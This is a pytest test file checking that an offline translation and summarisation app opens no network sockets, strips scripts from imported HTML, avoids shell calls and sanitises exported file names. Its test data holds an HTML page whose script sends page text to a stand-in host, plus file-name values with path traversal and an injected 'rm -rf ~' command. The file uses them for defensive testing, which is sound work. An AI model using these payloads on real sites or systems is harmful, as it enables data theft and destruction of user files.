"""The offline guarantee: the engine stages open no socket; only downloads and URL import talk to
the network, and only to the configured host.

The guard itself is tested first: a guard that cannot fail would prove nothing.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest


def test_guard_blocks_outside_hosts_and_records_them(no_network) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        with pytest.raises(OSError):
            sock.connect(("192.0.2.1", 80))  # TEST-NET-1, never routable
    finally:
        sock.close()
    with pytest.raises(OSError):
        socket.create_connection(("example.com", 443), timeout=0.5)
    assert no_network.forbidden == [("connect", ("192.0.2.1", 80)), ("getaddrinfo", "example.com")]
    no_network.forbidden.clear()  # the violations were the point of this test


def test_guard_allows_loopback_when_not_strict(no_network) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    try:
        client = socket.create_connection(server.getsockname(), timeout=2)
        client.close()
    finally:
        server.close()
    assert no_network.forbidden == []
    assert any(op == "connect" for op, _ in no_network.attempts)


def test_strict_guard_forbids_even_creating_a_socket(no_sockets) -> None:
    with pytest.raises(OSError):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with pytest.raises(OSError):
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    assert len(no_sockets.forbidden) == 2
    no_sockets.forbidden.clear()


def test_segmentation_opens_no_socket(no_sockets, seed_article: Path) -> None:
    from models.pipeline import load_article

    article = load_article(str(seed_article))
    assert len(article.sentences) > 10
    assert no_sockets.attempts == []


# --- the engine stages, in process, with no socket at all ------------------------------------------


def test_whole_engine_opens_no_socket(
    no_sockets, tiny_model: Path, seed_article: Path, tmp_path: Path
) -> None:
    from models import export, pipeline
    from models.translation.engine import Translator

    article = pipeline.load_article(str(seed_article))
    pipeline.summarize_article(article)
    translator = Translator(tiny_model)
    for sentence, english in zip(
        article.sentences, translator.translate([s.text for s in article.sentences]), strict=True
    ):
        sentence.translation = english
    pipeline.apply_check(article, pipeline.check_article(article))
    english = seed_article.with_name("syria-is-attacks.en.txt").read_text(encoding="utf-8")
    result = pipeline.check_translation(article, english)
    export.export_summary(article, tmp_path / "s.md", export.ExportOptions(include_translation=True))
    export.export_summary(article, tmp_path / "s.txt")
    assert article.bullets and article.facts and result is not None
    assert (tmp_path / "s.md").stat().st_size > 0
    assert no_sockets.attempts == []


HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Angrep i Syria</title>
<link rel="stylesheet" href="http://192.0.2.10/style.css">
<link rel="preload" href="https://tracker.example/x.js" as="script">
<script src="http://192.0.2.10/evil.js"></script>
<script>fetch('http://192.0.2.10/steal?'+document.body.innerText); document.write('INJISERT');</script>
<meta http-equiv="refresh" content="0; url=http://192.0.2.10/">
</head><body onload="fetch('http://192.0.2.10/')">
<article><h1>Angrep i Syria</h1>
<p>Minst 26 regimesoldater ble lørdag drept i provinsen Idlib, ifølge SOHR.
<img src="http://192.0.2.10/pixel.gif" onerror="fetch('http://192.0.2.10/')"></p>
<iframe src="http://192.0.2.10/frame"></iframe>
<p>Siden torsdag har IS-krigere drept totalt 35 soldater.<object data="http://192.0.2.10/o.swf"></object></p>
<svg><image href="http://192.0.2.10/i.png"/></svg>
</article></body></html>"""


def test_html_import_runs_no_script_and_fetches_nothing(no_sockets, tmp_path: Path, capsys) -> None:
    from models.cli import main
    from models.pipeline import article_from_html, load_article

    page = tmp_path / "side.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    for article in (load_article(str(page)), article_from_html(HOSTILE_HTML)):
        text = " ".join(s.text for s in article.sentences)
        assert "Minst 26 regimesoldater" in text and "35 soldater" in text
        assert "INJISERT" not in text and "fetch(" not in text and "192.0.2.10" not in text
    assert main(["summarize", str(page), "--format", "json"]) == 0
    capsys.readouterr()
    assert no_sockets.attempts == []


# --- the real console script, in a subprocess with a socket guard installed at start-up ------------

SITECUSTOMIZE = r"""
import os, socket, sys, _socket
LOG = os.environ["NORDBRIEF_SOCKET_LOG"]
def _blocked(*args, **kwargs):
    with open(LOG, "a") as fh:
        fh.write(repr(args[:2]) + "\n")
    raise OSError("sockets are blocked in this test")
class _Guarded(socket.socket):
    def __init__(self, *args, **kwargs):
        caller = sys._getframe(1).f_code
        # urllib3's import-time IPv6 probe (bind ::1, never connects) is the one exception.
        if caller.co_name == "_has_ipv6" and caller.co_filename.endswith("urllib3/util/connection.py"):
            return super().__init__(*args, **kwargs)
        _blocked(*args)
socket.socket = _Guarded
_socket.socket = _blocked
socket.create_connection = _blocked
socket.getaddrinfo = _blocked
socket.socketpair = _blocked
"""


def test_console_script_opens_no_socket(tmp_path: Path, tiny_model: Path, seed_article: Path) -> None:
    import os
    import subprocess
    import sys

    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    log = tmp_path / "sockets.log"
    env = dict(os.environ, PYTHONPATH=str(site), NORDBRIEF_SOCKET_LOG=str(log))
    # The guard really is active in the child: a deliberate connection attempt is logged.
    probe = subprocess.run(
        [sys.executable, "-c", "import socket; socket.create_connection(('192.0.2.1', 80))"],
        env=env,
        capture_output=True,
        timeout=60,
    )
    assert probe.returncode != 0 and log.read_text().strip()
    log.unlink()
    english = seed_article.with_name("syria-is-attacks.en.txt")
    page = tmp_path / "side.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    runs = [
        ["segment", str(seed_article), "--format", "json"],
        ["summarize", str(page), "--format", "md"],
        ["translate", str(seed_article), "--model", str(tiny_model), "--format", "md"],
        ["check", str(seed_article), str(english), "--format", "json"],
    ]
    for args in runs:
        out = tmp_path / "out.txt"
        proc = subprocess.run(
            [sys.executable, "-m", "models.cli", *args, "-o", str(out)],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert proc.returncode == 0, (args, proc.stderr)
        assert out.stat().st_size > 0
        assert not log.exists(), f"{args[0]} tried to open a socket: {log.read_text()}"


# --- the GUI ------------------------------------------------------------------------------------------


@pytest.mark.timeout(240)
def test_gui_open_translate_export_opens_no_socket(
    qtbot, no_sockets, tiny_model: Path, seed_article: Path, tmp_path: Path, monkeypatch
) -> None:
    pytest.importorskip("desktop.mainwindow")
    from desktop import dialogs
    from desktop.mainwindow import MainWindow

    errors: list[str] = []
    monkeypatch.setattr(dialogs, "show_error", lambda parent, title, msg, details="": errors.append(msg))
    monkeypatch.setattr(dialogs, "show_info", lambda parent, title, msg: None)
    window = MainWindow(model=str(tiny_model), restore_session=False)
    qtbot.addWidget(window)
    window.show()
    qtbot.waitUntil(lambda: window.model_state == "ready", timeout=60_000)
    window.open_path(str(seed_article))

    def translated() -> None:
        art = window.article
        assert art is not None and art.sentences and not window.translating
        assert all(s.translation is not None for s in art.sentences)

    qtbot.waitUntil(translated, timeout=120_000)
    assert window.export_to(str(tmp_path / "summary.md"))
    assert (tmp_path / "summary.md").read_text(encoding="utf-8").startswith("# ")
    assert errors == []
    window.close()
    assert no_sockets.attempts == []


# --- the only network users: model download and URL import, only to the configured host ------------


def _load_hubserver():
    import importlib
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "models"))
    try:
        return importlib.import_module("hubserver")
    finally:
        sys.path.pop(0)


def _hosts(attempts: list[tuple[str, object]]) -> set[object]:
    out: set[object] = set()
    for op, target in attempts:
        out.add(target[:2] if op.startswith("connect") and isinstance(target, tuple) else target)
    return out


@pytest.mark.timeout(300)
def test_model_download_talks_only_to_the_configured_hub(
    no_network, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hubserver = _load_hubserver()
    from models.paths import models_dir
    from models.store import download_model, load_catalog

    files = hubserver.make_marian_checkpoint(tmp_path / "ckpt", seed=3)
    hub = hubserver.FakeHub()
    for entry in load_catalog().values():
        hub.add_repo(entry.repo_id, files, commit=entry.revision)
    with hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.endpoint)
        monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
        monkeypatch.setenv("HF_HOME", str(models_dir().parent / "hf-home"))
        model = download_model("gmq-en-base")
        host, port = hub._server.server_address[:2]
        cdn = hub._cdn.server_address[:2]  # where the Hub's LFS redirects point, like its CDN
    assert (model.path / "model.bin").is_file()
    connects = [t for op, t in no_network.attempts if op.startswith("connect")]
    assert connects, "the download made no connection at all?"
    assert {t[:2] for t in connects} == {(host, port), cdn}
    assert _hosts([a for a in no_network.attempts if a[0] == "getaddrinfo"]) <= {host, cdn[0], "localhost"}


def test_url_import_talks_only_to_that_host(no_network) -> None:
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from models.pipeline import load_url

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = HOSTILE_HTML.encode("utf-8")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        host, port = server.server_address[:2]
        article = load_url(f"http://{host}:{port}/nyheter/syria.html")
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
    assert "Minst 26 regimesoldater" in " ".join(s.text for s in article.sentences)
    connects = [t for op, t in no_network.attempts if op.startswith("connect")]
    assert connects and {t[:2] for t in connects} == {(host, port)}


# --- nothing user-supplied reaches a shell ----------------------------------------------------------

SHELL_CALLS = {
    ("os", n) for n in ("system", "popen", "execl", "execlp", "execv", "execvp", "spawnl", "spawnv")
}


def test_no_shell_anywhere_in_the_app() -> None:
    import ast

    repo = Path(__file__).resolve().parents[2]
    offenders: list[str] = []
    files = sorted((repo / "models").rglob("*.py")) + sorted((repo / "desktop").rglob("*.py"))
    assert len(files) > 10
    for path in files:
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            where = f"{path.relative_to(repo)}:{node.lineno}"
            for kw in node.keywords:
                if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    offenders.append(f"{where} shell=")
            func = node.func
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                if (func.value.id, func.attr) in SHELL_CALLS:
                    offenders.append(f"{where} {func.value.id}.{func.attr}")
                if (
                    func.value.id == "subprocess"
                    and node.args
                    and isinstance(node.args[0], ast.JoinedStr | ast.BinOp)
                ):
                    offenders.append(f"{where} subprocess with a built command string")
            if isinstance(func, ast.Name) and func.id in {"eval", "exec"}:
                offenders.append(f"{where} {func.id}()")
    assert offenders == []


# --- exported file names are safe ----------------------------------------------------------------

HOSTILE_TITLES = [
    "../../../etc/passwd",
    "..\\..\\Windows\\System32\\drivers",
    "/absolute/path",
    "CON",
    "nul",
    "COM1",
    "lpt9.txt",
    "con.md",
    "\x00\x01\x1f\x7f",
    "   ",
    ".",
    "..",
    ".hidden",
    "😀😀😀",
    "\u202etxt.exe",
    'a:b*c?d"e<f>g|h',
    "$(rm -rf ~); `reboot` && echo pwned",
    "Ærlig talt, Øystein på Bodø " * 30,
    "日本語のタイトル",
    "-rf",
]

WINDOWS_RESERVED = (
    {"con", "prn", "aux", "nul"} | {f"com{i}" for i in range(10)} | {f"lpt{i}" for i in range(10)}
)


@pytest.mark.parametrize("title", HOSTILE_TITLES)
@pytest.mark.parametrize("fmt", ["markdown", "text"])
def test_default_export_file_name_is_sanitised(title: str, fmt: str) -> None:
    import datetime as dt
    import re

    from models import export
    from models.article import Article

    article = Article(text=title)
    article.source.title = title
    article.title = title
    name = export.default_filename(article, dt.date(2025, 1, 2), fmt=fmt)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", name), name
    assert name.endswith(".md" if fmt == "markdown" else ".txt")
    assert len(name.encode("utf-8")) <= 100
    assert name.split(".")[0].lower() not in WINDOWS_RESERVED
    assert ".." not in name
